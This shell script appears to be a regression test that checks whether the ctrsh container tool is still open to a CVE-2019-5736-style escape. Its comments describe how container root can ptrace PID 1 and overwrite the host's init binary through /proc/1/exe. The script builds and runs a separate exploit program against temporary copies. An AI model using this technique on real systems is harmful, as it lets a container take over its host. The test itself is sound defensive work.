#!/bin/sh
# CVE-2019-5736 class: root in a default `start`ed container overwrites the
# host's ctrsh-init binary through /proc/1/exe.
#
# ctrsh-init is exec'd from the host (O_PATH + fexecve) as the container's
# PID 1 and is dumpable, so container root (same uid, same capabilities,
# ptrace allowed by the default seccomp filter) can open /proc/1/exe and
# ptrace PID 1. It holds the file O_PATH, makes PID 1 execve /bin/sleep
# (PTRACE_SEIZE + PTRACE_INTERRUPT: no signal needed, which a namespace
# init would ignore), and once the host file is no longer being executed
# (no more ETXTBSY) reopens /proc/self/fd/N for writing.
#
# Usage: attack/init-overwrite.sh CTRSH_BUILD_DIR BUSYBOX_ROOT
# Works on a COPY of the build's ctrsh and ctrsh-init in a temp dir, so
# that no shared binary is harmed. Exit 0 = still vulnerable.
set -eu
build=${1:?ctrsh build dir (.build/debug)}; root=${2:?busybox root}
work=$(mktemp -d); trap 'rm -rf "$work"; rm -f "$root/bin/hijack"' EXIT
cp "$build/ctrsh" "$build/ctrsh-init" "$work/"
before=$(sha256sum < "$work/ctrsh-init")
gcc -static -O1 -o "$root/bin/hijack" "$(dirname "$0")/init-overwrite.c"
"$work/ctrsh" -c "ns new pid,uts,ipc,net,mnt; rootfs use $root; start; exec /bin/hijack; stop" || true
after=$(sha256sum < "$work/ctrsh-init")
if [ "$before" != "$after" ]; then
    echo "VULNERABLE: the container changed the host's ctrsh-init:"; tail -c 19 "$work/ctrsh-init"; exit 0
fi
echo "held: ctrsh-init unchanged"; exit 1
